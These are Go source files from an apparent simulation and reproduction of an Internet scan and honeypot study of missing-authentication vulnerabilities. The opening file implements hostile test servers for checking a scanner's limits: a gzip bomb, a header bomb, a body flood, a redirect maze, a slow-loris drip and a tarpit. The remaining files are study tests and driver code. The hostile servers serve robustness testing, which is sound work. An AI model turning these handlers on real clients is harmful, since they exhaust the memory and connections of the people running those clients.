	// sits far above every client-side cap: a hardened client dies of its
	// connection budget (4MiB) long before the flood dries up.
	floodCap = 64 << 20
	// headCap bounds how much of a request head a raw handler reads.
	headCap = 64 << 10
	// lorisPace is the simulated-victim drip interval; the per-connection
	// wall budget fires after a handful of bytes.
	lorisPace = 250 * time.Millisecond
)

// Handler returns the connection handler realizing archetype a for a host
// at ip serving port. clock paces the slow-loris drip (nil = wall clock).
func Handler(a Archetype, ip netip.Addr, port int, clock simtime.Sleeper) simnet.ConnHandler {
	if clock == nil {
		clock = simtime.Wall{}
	}
	switch a {
	case BodyFlood:
		return httpsim.ConnHandler(Flood())
	case HeaderBomb:
		return headerBomb
	case RedirectMaze:
		base := fmt.Sprintf("http://%s/maze", net.JoinHostPort(ip.String(), strconv.Itoa(port)))
		return httpsim.ConnHandler(Maze(func(hop int) string {
			return fmt.Sprintf("%s/%d", base, hop)
		}))
	case SlowLoris:
		return slowLoris(clock)
	case GzipBomb:
		return httpsim.ConnHandler(Bomb())
	default:
		return tarpit
	}
}

// Flood returns a handler streaming an effectively unbounded 200 OK body.
func Flood() http.Handler {
	chunk := bytes.Repeat([]byte{'A'}, 32<<10)
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(http.StatusOK)
		for written := 0; written < floodCap; written += len(chunk) {
			if _, err := w.Write(chunk); err != nil {
				return // client hung up: budget enforced, stop feeding
			}
		}
	})
}

// Maze returns a handler that answers every request with a redirect to
// locate(hop+1), where hop is the integer after the last "/" of the
// request path (0 when the path carries none). locate returns the full
// next-hop URL, so tests compose cross-host and cross-scheme mazes while
// the population's hostile hosts chain onto themselves forever — only the
// client's redirect cap or wall budget terminates the walk.
func Maze(locate func(hop int) string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hop := 0
		if i := strings.LastIndex(r.URL.Path, "/"); i >= 0 {
			if n, err := strconv.Atoi(r.URL.Path[i+1:]); err == nil {
				hop = n
			}
		}
		http.Redirect(w, r, locate(hop+1), http.StatusFound)
	})
}

// Loop returns a handler that redirects every request straight back to
// target — the origin-URL loop of the maze family.
func Loop(target string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, target, http.StatusFound)
	})
}

// Bomb returns a handler serving a gzip bomb: ~64KiB on the wire that
// inflates to 64MiB. The transport decompresses transparently, so an
// unbounded read of the body pays the full expansion.
func Bomb() http.Handler {
	payload := bombPayload()
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Content-Encoding", "gzip")
		w.Header().Set("Content-Length", strconv.Itoa(len(payload)))
		w.WriteHeader(http.StatusOK)
		if _, err := w.Write(payload); err != nil {
			return
		}
	})
}

var (
	bombOnce  sync.Once
	bombBytes []byte
)

// bombPayload compresses 64MiB of zeros once per process.
func bombPayload() []byte {
	bombOnce.Do(func() {
		var buf bytes.Buffer
		zw, err := gzip.NewWriterLevel(&buf, gzip.BestCompression)
		if err != nil {
			panic(err) // the compression level is a constant; this cannot fail
		}
		zero := make([]byte, 1<<20)
		for i := 0; i < 64; i++ {
			if _, err := zw.Write(zero); err != nil {
				panic(err)
			}
		}
		if err := zw.Close(); err != nil {
			panic(err)
		}
		bombBytes = buf.Bytes()
	})
	return bombBytes
}

// headerBomb reads the request head and answers with ~384KiB of response
// headers — above the scanning client's 256KiB header cap.
func headerBomb(conn net.Conn) {
	defer conn.Close()
	if !readRequestHead(conn) {
		return
	}
	w := bufio.NewWriter(conn)
	if _, err := w.WriteString("HTTP/1.1 200 OK\r\n"); err != nil {
		return
	}
	val := strings.Repeat("B", 4096)
	for i := 0; i < 96; i++ {
		if _, err := fmt.Fprintf(w, "X-Entropy-%03d: %s\r\n", i, val); err != nil {
			return
		}
		if err := w.Flush(); err != nil {
			return // client gave up mid-bomb
		}
	}
	if _, err := w.WriteString("Content-Length: 2\r\n\r\nok"); err != nil {
		return
	}
	_ = w.Flush()
}

// slowLoris returns a handler that sends valid response framing and then
// drips the promised body one byte per clock tick, defeating any timeout
// that resets on progress.
func slowLoris(clock simtime.Sleeper) simnet.ConnHandler {
	return func(conn net.Conn) {
		defer conn.Close()
		if !readRequestHead(conn) {
			return
		}
		head := "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 1048576\r\n\r\n"
		if _, err := io.WriteString(conn, head); err != nil {
			return
		}
		for i := 0; i < 1<<20; i++ {
			<-clock.After(lorisPace)
			if _, err := conn.Write([]byte{'.'}); err != nil {
				return // the victim's wall budget closed the connection
			}
		}
	}
}

// tarpit accepts, swallows whatever the client sends, and never answers;
// the handler exits when the client's wall budget closes the connection.
func tarpit(conn net.Conn) {
	defer conn.Close()
	buf := make([]byte, 4096)
	for {
		if _, err := conn.Read(buf); err != nil {
			return
		}
	}
}

// readRequestHead consumes the request head (through the blank line) so
// the synchronous pipe never wedges the client mid-request, reading at
// most headCap bytes. It reports whether a complete head arrived.
func readRequestHead(conn net.Conn) bool {
	buf := make([]byte, 4096)
	var n int
	var tail []byte
	for n < headCap {
		k, err := conn.Read(buf)
		if k > 0 {
			n += k
			tail = append(tail, buf[:k]...)
			if len(tail) > 8 {
				tail = tail[len(tail)-8:] // the terminator spans at most 4 bytes
			}
			if bytes.Contains(tail, []byte("\r\n\r\n")) {
				return true
			}
		}
		if err != nil {
			return false
		}
	}
	return true
}
