package study

import (
	"context"
	"testing"

	"mavscan/internal/analysis"
	"mavscan/internal/mav"
	"mavscan/internal/population"
	"mavscan/internal/scanner"
)

// shapeScan runs one moderately sized scan shared by the shape tests.
func shapeScan(t *testing.T) *ScanStudy {
	t.Helper()
	scan, err := RunScan(context.Background(), ScanConfig{
		Population: population.Config{
			Seed: 9, HostScale: 8000, VulnScale: 8,
			BackgroundScale: -1, WildcardScale: -1,
		},
		Scan: scanner.Options{Seed: 9},
	})
	if err != nil {
		t.Fatal(err)
	}
	return scan
}

// TestShapeTop5AppsDominateFindings verifies the paper's claim that the
// five most common AWEs are responsible for over 98% of all Stage-II
// findings.
func TestShapeTop5AppsDominateFindings(t *testing.T) {
	if testing.Short() {
		t.Skip("runs a scan study")
	}
	scan := shapeScan(t)
	hosts := scan.Report.HostsPerApp()
	// Estimate full-population host counts with the design weights.
	type appCount struct {
		app mav.App
		est float64
	}
	var counts []appCount
	var total float64
	mavs := scan.Report.MAVsPerApp()
	for app, n := range hosts {
		sw, vw := scan.World.Weights(app)
		m := mavs[app]
		est := float64(n-m)*sw + float64(m)*vw
		counts = append(counts, appCount{app, est})
		total += est
	}
	// Top five by estimated prevalence.
	for i := 0; i < len(counts); i++ {
		for j := i + 1; j < len(counts); j++ {
			if counts[j].est > counts[i].est {
				counts[i], counts[j] = counts[j], counts[i]
			}
		}
	}
	var top5 float64
	for i := 0; i < 5 && i < len(counts); i++ {
		top5 += counts[i].est
	}
	if share := top5 / total; share < 0.97 {
		t.Errorf("top-5 AWEs carry %.3f of findings, want >0.97 (paper: 98%%)", share)
	}
	// And WordPress alone is over half.
	if counts[0].app != mav.WordPress {
		t.Errorf("most prevalent AWE is %s, want WordPress", counts[0].app)
	}
	if counts[0].est/total < 0.5 {
		t.Errorf("WordPress carries %.2f, want >0.5", counts[0].est/total)
	}
}

// TestShapeCMInsecureDefaultsDriveMAVRates: all products with ≥5% MAV rate
// (excluding the short-lived CMS installs) are insecure by default —
// the paper's "defaults are important" insight.
func TestShapeCMInsecureDefaultsDriveMAVRates(t *testing.T) {
	if testing.Short() {
		t.Skip("runs a scan study")
	}
	scan := shapeScan(t)
	hosts := scan.Report.HostsPerApp()
	mavs := scan.Report.MAVsPerApp()
	for _, info := range mav.InScopeApps() {
		h, m := hosts[info.App], mavs[info.App]
		if h == 0 {
			continue
		}
		sw, vw := scan.World.Weights(info.App)
		est := float64(h-m)*sw + float64(m)*vw
		if est == 0 {
			continue
		}
		rate := float64(m) * vw / est
		if rate >= 0.05 && info.Kind != mav.KindInstall {
			if info.Default != mav.InsecureByDefault {
				t.Errorf("%s has MAV rate %.1f%% but is not insecure by default", info.App, 100*rate)
			}
		}
	}
}

// TestShapeJupyterNotebookOldVersionsDominate: Figure 1's headline — the
// small share of very old Jupyter Notebook instances carries ~80% of its
// vulnerable population.
func TestShapeJupyterNotebookOldVersionsDominate(t *testing.T) {
	if testing.Short() {
		t.Skip("runs a scan study")
	}
	scan := shapeScan(t)
	var oldVuln, vuln int
	for _, obs := range scan.Report.Apps {
		if obs.App != mav.JupyterNotebook || !obs.Vulnerable() || obs.Released.IsZero() {
			continue
		}
		vuln++
		if obs.Released.Before(population.ScanDate.AddDate(-3, 0, 0)) {
			oldVuln++
		}
	}
	if vuln == 0 {
		t.Fatal("no vulnerable Jupyter Notebooks observed")
	}
	if frac := float64(oldVuln) / float64(vuln); frac < 0.6 {
		t.Errorf("old releases carry %.2f of vulnerable notebooks, want ≥0.6 (paper ~0.8)", frac)
	}
}

// TestShapeRQ2CategoryFreshness: CMSes are the most up to date category,
// control panels the most outdated (RQ2's medians).
func TestShapeRQ2CategoryFreshness(t *testing.T) {
	if testing.Short() {
		t.Skip("runs a scan study")
	}
	scan := shapeScan(t)
	cmsMedian, ok1 := analysis.MedianReleaseDate(analysis.FilterByCategory(scan.Report.Apps, mav.CMS))
	cpMedian, ok2 := analysis.MedianReleaseDate(analysis.FilterByCategory(scan.Report.Apps, mav.CP))
	if !ok1 || !ok2 {
		t.Fatal("missing category medians")
	}
	if !cmsMedian.After(cpMedian) {
		t.Errorf("CMS median %v should be newer than CP median %v", cmsMedian, cpMedian)
	}
	r, _, _ := analysis.RecencyShares(scan.Report.Apps, population.ScanDate)
	if r < 0.5 {
		t.Errorf("recent share %.2f, want ≥0.5 (paper ~0.65)", r)
	}
}

// TestShapeArtifactHostsExcluded: the all-ports-open middleboxes must be
// recognized and kept out of the report.
func TestShapeArtifactHostsExcluded(t *testing.T) {
	if testing.Short() {
		t.Skip("runs a scan study")
	}
	scan, err := RunScan(context.Background(), ScanConfig{
		Population: population.Config{
			Seed: 10, HostScale: 100000, VulnScale: 100,
			BackgroundScale: -1, WildcardScale: 100000, // ~30 artifact hosts
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if scan.Report.ArtifactHosts == 0 {
		t.Fatal("no artifact hosts recognized")
	}
	if scan.Report.ArtifactHosts != scan.World.Wildcard {
		t.Errorf("excluded %d artifact hosts, world has %d", scan.Report.ArtifactHosts, scan.World.Wildcard)
	}
}
