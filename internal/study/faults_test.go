package study

import (
	"context"
	"reflect"
	"testing"
	"time"

	"mavscan/internal/faults"
	"mavscan/internal/population"
	"mavscan/internal/resilience"
	"mavscan/internal/scanner"
)

// runFaultScan runs the standard small scan world under the given fault
// plan and retry policy. The injected latency is forced down to a
// nanosecond because the scan study runs on the wall clock.
func runFaultScan(t *testing.T, f faults.Config, p resilience.Policy) *ScanStudy {
	t.Helper()
	if f.Enabled() {
		f.Latency = time.Nanosecond
	}
	scan, err := RunScan(context.Background(), ScanConfig{
		Population: population.Config{
			Seed: 9, HostScale: 8000, VulnScale: 8,
			BackgroundScale: -1, WildcardScale: -1,
		},
		Scan:       scanner.Options{Seed: 9},
		Faults:     f,
		Resilience: p,
	})
	if err != nil {
		t.Fatal(err)
	}
	scan.Report.Stats.Elapsed = 0 // wall-clock noise, not part of the result
	return scan
}

// TestScanReportDeterministicUnderFaults is the scan half of the
// reproducibility acceptance: the same fault seed yields a byte-identical
// report across runs.
func TestScanReportDeterministicUnderFaults(t *testing.T) {
	if testing.Short() {
		t.Skip("runs two scan studies")
	}
	f := faults.Config{Seed: 11, Rate: 0.1}
	p := resilience.Policy{MaxAttempts: 3, JitterSeed: 2}
	a := runFaultScan(t, f, p)
	b := runFaultScan(t, f, p)
	if !reflect.DeepEqual(a.Report, b.Report) {
		t.Fatal("same fault seed produced different scan reports")
	}
}

// TestScanFaultsBelowBudgetMatchCleanReport checks the absorption property
// end to end: response-level faults at a rate the per-stage retries can
// absorb leave the report identical to a fault-free scan. Handshake-level
// kinds are excluded — Stage I deliberately keeps the paper's shoot-once
// SYN semantics, so a dropped or late SYN answer (syn, reset, and latency
// faults alike) is a legitimate deterministic result change rather than
// noise to hide.
func TestScanFaultsBelowBudgetMatchCleanReport(t *testing.T) {
	if testing.Short() {
		t.Skip("runs two scan studies")
	}
	clean := runFaultScan(t, faults.Config{}, resilience.Policy{})
	faulted := runFaultScan(t,
		faults.Config{Seed: 11, Rate: 0.05, Kinds: []faults.Kind{faults.HTTP5xx, faults.Truncate}},
		resilience.Policy{MaxAttempts: 6, JitterSeed: 2})
	if !reflect.DeepEqual(faulted.Report, clean.Report) {
		t.Fatal("faults below the retry budget changed the scan report")
	}
}

// runFaultLongevity runs a fresh scan + longevity pass. The scan must be
// fresh per call: churn mutates the world in place, so reusing a ScanStudy
// across longevity runs would observe different populations.
func runFaultLongevity(t *testing.T) *observerResult {
	t.Helper()
	scan := runFaultScan(t, faults.Config{}, resilience.Policy{})
	res, err := RunLongevity(context.Background(), LongevityConfig{
		Scan:     scan,
		Seed:     3,
		Interval: 12 * time.Hour,
		Faults: faults.Config{
			Seed: 13, Rate: 0.05, Latency: time.Nanosecond,
			BurstEvery: 48 * time.Hour, BurstLen: 3 * time.Hour, BurstRate: 0.9,
		},
		Resilience:   resilience.Policy{MaxAttempts: 3, JitterSeed: 3},
		OfflineAfter: 2,
	})
	if err != nil {
		t.Fatal(err)
	}
	return &observerResult{Overall: res.Overall, Updated: res.Updated}
}

// observerResult is the comparable slice of a longevity result.
type observerResult struct {
	Overall interface{}
	Updated int
}

// TestLongevityFigure2DeterministicUnderFaults is the Figure-2 half of the
// reproducibility acceptance: same fault seed (with burst windows riding
// the simulated clock) ⇒ identical series across full scan+observe runs.
func TestLongevityFigure2DeterministicUnderFaults(t *testing.T) {
	if testing.Short() {
		t.Skip("runs two scan+longevity studies")
	}
	a := runFaultLongevity(t)
	b := runFaultLongevity(t)
	if !reflect.DeepEqual(a, b) {
		t.Fatal("same fault seed produced different Figure-2 series")
	}
}
