package study

import (
	"context"
	"testing"

	"mavscan/internal/analysis"
	"mavscan/internal/attacker"
	"mavscan/internal/mav"
	"mavscan/internal/population"
	"mavscan/internal/secscan"
)

// TestHoneypotStudyReproducesTable5 replays the attacker model and checks
// the monitoring-derived attack counts against the paper's Table 5. Small
// deviations are possible (an attack can be swallowed by a honeypot that
// is mid-restore), so counts must be within 2% of the calibration.
func TestHoneypotStudyReproducesTable5(t *testing.T) {
	if testing.Short() {
		t.Skip("honeypot study replays 2k attacks")
	}
	hs, err := RunHoneypots(context.Background(), HoneypotConfig{Seed: 7})
	if err != nil {
		t.Fatal(err)
	}
	rows, total, totalUnique, totalIPs := analysis.Table5(hs.Attacks)
	perApp := map[mav.App]analysis.AppAttackStats{}
	for _, r := range rows {
		perApp[r.App] = r
	}
	for app, want := range attacker.PaperAttackTotals {
		got := perApp[app].Attacks
		lo := want - want/20 - 2
		hi := want + want/20 + 2
		if got < lo || got > hi {
			t.Errorf("%s: %d attacks, want ≈%d", app, got, want)
		}
	}
	if total < 2100 || total > 2300 {
		t.Errorf("total attacks %d, want ≈2195", total)
	}
	if totalUnique < 100 || totalUnique > 160 {
		t.Errorf("unique attacks %d, want ≈122", totalUnique)
	}
	if totalIPs < 120 || totalIPs > 200 {
		t.Errorf("unique IPs %d, want ≈160", totalIPs)
	}
	// Only the 7 applications of Table 5 may appear — control panels and
	// the rest must stay unattacked.
	for _, r := range rows {
		if _, ok := attacker.PaperAttackTotals[r.App]; !ok {
			t.Errorf("unexpected attacks on %s", r.App)
		}
	}

	// RQ6 concentration: few attackers carry most attacks.
	top5 := analysis.TopShare(hs.Clusters, 5)
	if top5 < 0.55 || top5 > 0.80 {
		t.Errorf("top-5 attacker share %.2f, want ≈0.67", top5)
	}
	top10 := analysis.TopShare(hs.Clusters, 10)
	if top10 < 0.75 || top10 > 0.92 {
		t.Errorf("top-10 attacker share %.2f, want ≈0.84", top10)
	}
	// Figure 4: several attackers target at least two applications.
	multi := analysis.MultiAppAttackers(hs.Clusters)
	if len(multi) < 5 {
		t.Errorf("only %d multi-app attackers, want ≥5", len(multi))
	}

	// Table 6 first-compromise ordering: Hadoop first, within the hour.
	t6 := analysis.Table6(hs.Attacks, hs.Start)
	firsts := map[mav.App]float64{}
	for _, row := range t6 {
		firsts[row.App] = row.First
	}
	if f := firsts[mav.Hadoop]; f > 1.0 {
		t.Errorf("Hadoop first compromise at %.1fh, want <1h", f)
	}
	if firsts[mav.WordPress] > 4 {
		t.Errorf("WordPress first compromise at %.1fh, want ≈2.8h", firsts[mav.WordPress])
	}
	if firsts[mav.Grav] < 300 {
		t.Errorf("Grav first compromise at %.1fh, want ≈355h", firsts[mav.Grav])
	}

	// The farm must have restored honeypots (miners detected, CMS
	// re-armed).
	restores := 0
	for _, pot := range hs.Farm.Honeypots() {
		restores += pot.Restores()
	}
	if restores == 0 {
		t.Error("no snapshot restores recorded")
	}

	// RQ4 purposes: cryptojacking (including Kinsing) dominates, and the
	// vigilante shows up on Jupyter Lab.
	if share := analysis.CryptojackingShare(hs.Attacks); share < 0.5 {
		t.Errorf("cryptojacking share %.2f, want dominant", share)
	}
	vigilanteSeen := false
	for _, a := range hs.Attacks {
		if a.App == mav.JupyterLab && analysis.ClassifyAttack(a) == analysis.PurposeVigilante {
			vigilanteSeen = true
		}
	}
	if !vigilanteSeen {
		t.Error("vigilante shutdowns on Jupyter Lab not observed")
	}
}

// TestDefenderStudyMatchesSection5 checks the two scanners' coverage.
func TestDefenderStudyMatchesSection5(t *testing.T) {
	def, err := RunDefenders(context.Background(), DefenderConfig{})
	if err != nil {
		t.Fatal(err)
	}
	if got := secscan.VulnerabilitiesDetected(def.Scanner1); got != 5 {
		t.Errorf("Scanner 1 detected %d vulnerabilities, want 5", got)
	}
	if got := secscan.VulnerabilitiesDetected(def.Scanner2); got != 3 {
		t.Errorf("Scanner 2 detected %d vulnerabilities, want 3", got)
	}
	info := 0
	for _, f := range def.Scanner2 {
		if f.Severity == secscan.SeverityInformational {
			info++
		}
	}
	if info != 4 {
		t.Errorf("Scanner 2 informational findings = %d, want 4 (Joomla, phpMyAdmin, Kubernetes, Hadoop)", info)
	}
}

// TestLongevityStudyShape runs a coarse longevity observation on a small
// world and checks the Figure-2 shape: monotone-ish decay with >50% still
// vulnerable at the end, and few fixes.
func TestLongevityStudyShape(t *testing.T) {
	if testing.Short() {
		t.Skip("longevity study is slow")
	}
	scan, err := RunScan(context.Background(), ScanConfig{
		Population: population.Config{
			Seed:            3,
			HostScale:       40000,
			VulnScale:       10,
			BackgroundScale: -1,
			WildcardScale:   -1,
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	res, err := RunLongevity(context.Background(), LongevityConfig{
		Scan:     scan,
		Seed:     3,
		Interval: 12 * 3600e9, // 12h ticks keep the test fast
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Overall) < 50 {
		t.Fatalf("expected ≈56 samples, got %d", len(res.Overall))
	}
	final := res.FinalSample()
	total := final.Total()
	if total == 0 {
		t.Fatal("no targets observed")
	}
	vulnFrac := float64(final.Vulnerable) / float64(total)
	if vulnFrac < 0.40 || vulnFrac > 0.70 {
		t.Errorf("final vulnerable fraction %.2f, want ≈0.53", vulnFrac)
	}
	fixedFrac := float64(final.Fixed) / float64(total)
	if fixedFrac > 0.12 {
		t.Errorf("final fixed fraction %.2f, want small (≈0.03)", fixedFrac)
	}
	// Early decay: ~10% no longer vulnerable within the first six hours
	// — at 12h ticks, the first sample should already show some loss.
	first := res.Overall[0]
	if first.Vulnerable == first.Total() {
		t.Error("no early decay observed in the first sample")
	}

	// Notebooks stay vulnerable for much longer than CI overall.
	nb := res.ByCategory[mav.NB]
	ci := res.ByCategory[mav.CI]
	if len(nb) > 0 && len(ci) > 0 {
		nbLast, ciLast := nb[len(nb)-1], ci[len(ci)-1]
		nbFrac := float64(nbLast.Vulnerable) / float64(nbLast.Total())
		ciFrac := float64(ciLast.Vulnerable) / float64(ciLast.Total())
		if nbFrac <= ciFrac {
			t.Errorf("notebooks %.2f should outlast CI %.2f", nbFrac, ciFrac)
		}
	}
}
