// Package study drives the paper's experiments end to end and exposes
// their results in the shape of the published tables and figures. Each
// experiment builds only on public observations (scan results, fingerprint
// versions, honeypot monitoring) — ground truth from the population
// generator is used exclusively by tests.
package study

import (
	"context"
	"fmt"
	"net/netip"
	"time"

	"mavscan/internal/analysis"
	"mavscan/internal/apps"
	"mavscan/internal/attacker"
	"mavscan/internal/eslite"
	"mavscan/internal/fabric"
	"mavscan/internal/faults"
	"mavscan/internal/geo"
	"mavscan/internal/honeypot"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/obs"
	"mavscan/internal/observer"
	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/resilience"
	"mavscan/internal/scanner"
	"mavscan/internal/secscan"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
	"mavscan/internal/tsunami"
)

// ScanStudy is the Section-3 experiment: the Internet-wide scan.
type ScanStudy struct {
	World  *population.World
	Report *scanner.Report
}

// ObsConfig hooks a run into the operations plane (internal/obs). Both
// fields are optional and nil-safe, so runs wire it unconditionally.
type ObsConfig struct {
	// Progress receives live run state for /progress: per-shard watermarks,
	// checkpoint lag, worker liveness, resident-host count. Setting it on a
	// scan routes the run through the orchestrator even with Shards <= 1,
	// so a single-shard run still reports a watermark.
	Progress *orchestrator.ProgressTracker
	// Ready is latched once the run is serving useful state (world
	// generated, farm deployed) — the /readyz half of the health pair.
	Ready *obs.Flag
}

// ScanConfig bundles the generation and scan parameters.
type ScanConfig struct {
	Population population.Config
	Scan       scanner.Options
	// Shards, when > 1, routes the scan through the sharded orchestrator
	// (internal/orchestrator): the address space is partitioned into Shards
	// flat-index windows scanned by independent pipelines and merged into
	// the same report the monolithic path produces. Parallelism bounds the
	// concurrent shard workers (0 = min(Shards, GOMAXPROCS)).
	Shards      int
	Parallelism int
	// FabricWorkers, when > 0, routes the scan through the distributed
	// scan fabric (internal/fabric): an in-process coordinator serving the
	// segment plan as leases to this many workers over the hermetic pipe
	// transport. Each worker regenerates the world from Population, so the
	// merged report stays byte-identical to the monolithic run.
	FabricWorkers int
	// Checkpoint journals per-shard progress and enables resume; setting a
	// Store also routes through the orchestrator even with Shards <= 1.
	Checkpoint orchestrator.Checkpoint
	// Faults injects deterministic transient failures into the simulated
	// network (zero value = off). The one-shot scan has no meaningful
	// timeline, so burst windows are inert here; see LongevityConfig.
	// WorkerCrashRate additionally crashes orchestrated shard workers.
	Faults faults.Config
	// Resilience retries the HTTP stages under the given policy (zero
	// value = single attempts, the paper's original semantics). Under the
	// orchestrator it also governs segment re-runs after worker crashes.
	Resilience resilience.Policy
	// Telemetry, when non-nil, instruments the whole pipeline.
	Telemetry *telemetry.Registry
	// Obs hooks the run into the operations plane.
	Obs ObsConfig
	// HTTPTimeout overrides the Stage-II/III per-request timeout and
	// connection wall budget (zero keeps the 10s default). Scans of
	// hostile-seeded populations (Population.HostileRate > 0) should set
	// it low: it is what prices a tarpit at one short exchange.
	HTTPTimeout time.Duration
}

// orchestrated reports whether the scan should run through the sharded
// orchestrator rather than a single monolithic pipeline. A progress
// tracker forces the orchestrated path: watermarks are segment-granular,
// and only the orchestrator has segments.
func (cfg *ScanConfig) orchestrated() bool {
	return cfg.Shards > 1 || cfg.Checkpoint.Store != nil || cfg.Obs.Progress != nil
}

// RunScan generates a world and runs the full three-stage pipeline on it,
// monolithically or sharded (see ScanConfig.Shards). Both paths emit
// byte-identical reports for the same seed.
func RunScan(ctx context.Context, cfg ScanConfig) (*ScanStudy, error) {
	if err := cfg.Faults.Validate(); err != nil {
		return nil, err
	}
	world, err := population.Generate(cfg.Population)
	if err != nil {
		return nil, fmt.Errorf("study: generating world: %w", err)
	}
	world.Instrument(cfg.Telemetry)
	cfg.Obs.Progress.SetResident(world.MaterializedHosts)
	cfg.Obs.Ready.Set()
	cfg.Telemetry.Event("study.scan.start",
		"hosts", fmt.Sprint(world.TotalHosts()))
	if len(cfg.Scan.Targets) == 0 {
		cfg.Scan.Targets = world.Geo.Prefixes()
	}
	var plan *faults.Plan
	if cfg.Faults.Enabled() {
		plan = faults.NewPlan(cfg.Faults, nil)
		plan.Instrument(cfg.Telemetry)
		world.Net.SetFaults(plan)
	}
	var report *scanner.Report
	if cfg.FabricWorkers > 0 {
		// The fabric's workers scan their own regenerated copies of the
		// world; the one generated above still anchors the study result
		// (ground-truth totals, disclosure lookups, observer targets).
		report, err = fabric.Run(ctx, fabric.Config{
			Coordinator: fabric.CoordinatorConfig{
				Population:  cfg.Population,
				Scan:        cfg.Scan,
				Shards:      cfg.Shards,
				Checkpoint:  cfg.Checkpoint,
				Faults:      cfg.Faults,
				Resilience:  cfg.Resilience,
				HTTPTimeout: cfg.HTTPTimeout,
				Telemetry:   cfg.Telemetry,
				Progress:    cfg.Obs.Progress,
			},
			Workers: cfg.FabricWorkers,
		})
	} else if cfg.orchestrated() {
		report, err = orchestrator.Run(ctx, orchestrator.Config{
			Net:         world.Net,
			Scan:        cfg.Scan,
			Shards:      cfg.Shards,
			Parallelism: cfg.Parallelism,
			Checkpoint:  cfg.Checkpoint,
			Telemetry:   cfg.Telemetry,
			Progress:    cfg.Obs.Progress,
			Resilience:  cfg.Resilience,
			Faults:      plan,
			HTTPTimeout: cfg.HTTPTimeout,
		})
	} else {
		pipe := scanner.New(world.Net,
			scanner.WithResilience(cfg.Resilience),
			scanner.WithTelemetry(cfg.Telemetry),
			scanner.WithHTTPTimeout(cfg.HTTPTimeout))
		report, err = pipe.Run(ctx, cfg.Scan)
	}
	if err != nil {
		return nil, fmt.Errorf("study: scanning: %w", err)
	}
	cfg.Telemetry.Event("study.scan.done",
		"probed", fmt.Sprint(report.Stats.Probed),
		"open", fmt.Sprint(report.Stats.Open))
	return &ScanStudy{World: world, Report: report}, nil
}

// ObserverTargets derives the longevity-study targets from the scan
// report's confirmed MAVs. The by-default grouping uses only public
// information: the fingerprinted version and the product's default
// history.
func (s *ScanStudy) ObserverTargets() []observer.Target {
	var out []observer.Target
	for _, obs := range s.Report.VulnerableObservations() {
		out = append(out, observer.Target{
			IP:             obs.IP,
			Port:           obs.Port,
			Scheme:         obs.Scheme,
			App:            obs.App,
			ByDefault:      obs.Version != "" && apps.InsecureDefault(obs.App, obs.Version),
			InitialVersion: obs.Version,
		})
	}
	return out
}

// LongevityConfig tunes the four-week observation (Figure 2).
type LongevityConfig struct {
	// Scan is the completed scan study whose confirmed MAVs the observer
	// watches. Required.
	Scan     *ScanStudy
	Seed     int64
	Interval time.Duration // default 3h
	Duration time.Duration // default 4 weeks
	// FingerprintEvery controls the version re-check cadence in ticks.
	FingerprintEvery int
	// Faults injects deterministic transient failures; burst windows run
	// off the study's simulated clock, so they land on the same ticks in
	// every run with the same seed.
	Faults faults.Config
	// Resilience retries each observer check under the given policy.
	Resilience resilience.Policy
	// OfflineAfter is the consecutive-failed-ticks threshold before a
	// target is reported offline (default 1, the paper's single-miss rule).
	OfflineAfter int
	// Telemetry, when non-nil, instruments the observer.
	Telemetry *telemetry.Registry
	// Obs hooks the run into the operations plane (Ready latches once the
	// observation is scheduled; scans have no shard progress here).
	Obs ObsConfig
}

// RunLongevity schedules the churn model and the observer on a simulated
// clock and runs the four weeks to completion.
func RunLongevity(ctx context.Context, cfg LongevityConfig) (*observer.Result, error) {
	if cfg.Scan == nil {
		return nil, fmt.Errorf("study: LongevityConfig.Scan is required")
	}
	if err := cfg.Faults.Validate(); err != nil {
		return nil, err
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	s := cfg.Scan
	if cfg.Interval == 0 {
		cfg.Interval = 3 * time.Hour
	}
	if cfg.Duration == 0 {
		cfg.Duration = 28 * 24 * time.Hour
	}
	start := population.ScanDate
	sim := simtime.NewSim(start)
	population.ScheduleChurn(sim, s.World, population.ChurnConfig{
		Seed:     cfg.Seed,
		Start:    start,
		Duration: cfg.Duration,
	})
	if cfg.Faults.Enabled() {
		plan := faults.NewPlan(cfg.Faults, sim)
		plan.Instrument(cfg.Telemetry)
		s.World.Net.SetFaults(plan)
	} else {
		s.World.Net.SetFaults(nil)
	}
	watcher := observer.New(s.World.Net, sim)
	watcher.FingerprintEvery = cfg.FingerprintEvery
	watcher.Resilience = cfg.Resilience
	watcher.OfflineAfter = cfg.OfflineAfter
	watcher.Instrument(cfg.Telemetry)
	targets := s.ObserverTargets()
	cfg.Telemetry.Event("study.longevity.start",
		"targets", fmt.Sprint(len(targets)),
		"interval", cfg.Interval.String())
	result := watcher.Watch(targets, cfg.Interval, cfg.Duration)
	cfg.Obs.Ready.Set()
	sim.Run()
	cfg.Telemetry.Event("study.longevity.done",
		"ticks", fmt.Sprint(len(result.Overall)),
		"updated", fmt.Sprint(result.Updated))
	return result, nil
}

// HoneypotStudy is the Section-4 experiment: 18 honeypots exposed for four
// weeks to the modeled attacker population.
type HoneypotStudy struct {
	Start    time.Time
	Net      *simnet.Network
	Geo      *geo.DB
	Farm     *honeypot.Farm
	Store    *eslite.Store
	Plan     *attacker.Plan
	Executor *attacker.Executor
	// Attacks are the sessionized, uniquified attacks recovered from the
	// monitoring stream.
	Attacks []analysis.Attack
	// Clusters are the inferred attackers.
	Clusters []analysis.AttackerCluster
}

// HoneypotStart is the paper's honeypot exposure date (June 09, 2021).
var HoneypotStart = time.Date(2021, 6, 9, 0, 0, 0, 0, time.UTC)

// HoneypotConfig parametrizes the honeypot study.
type HoneypotConfig struct {
	// Seed keys the attacker-population plan.
	Seed int64
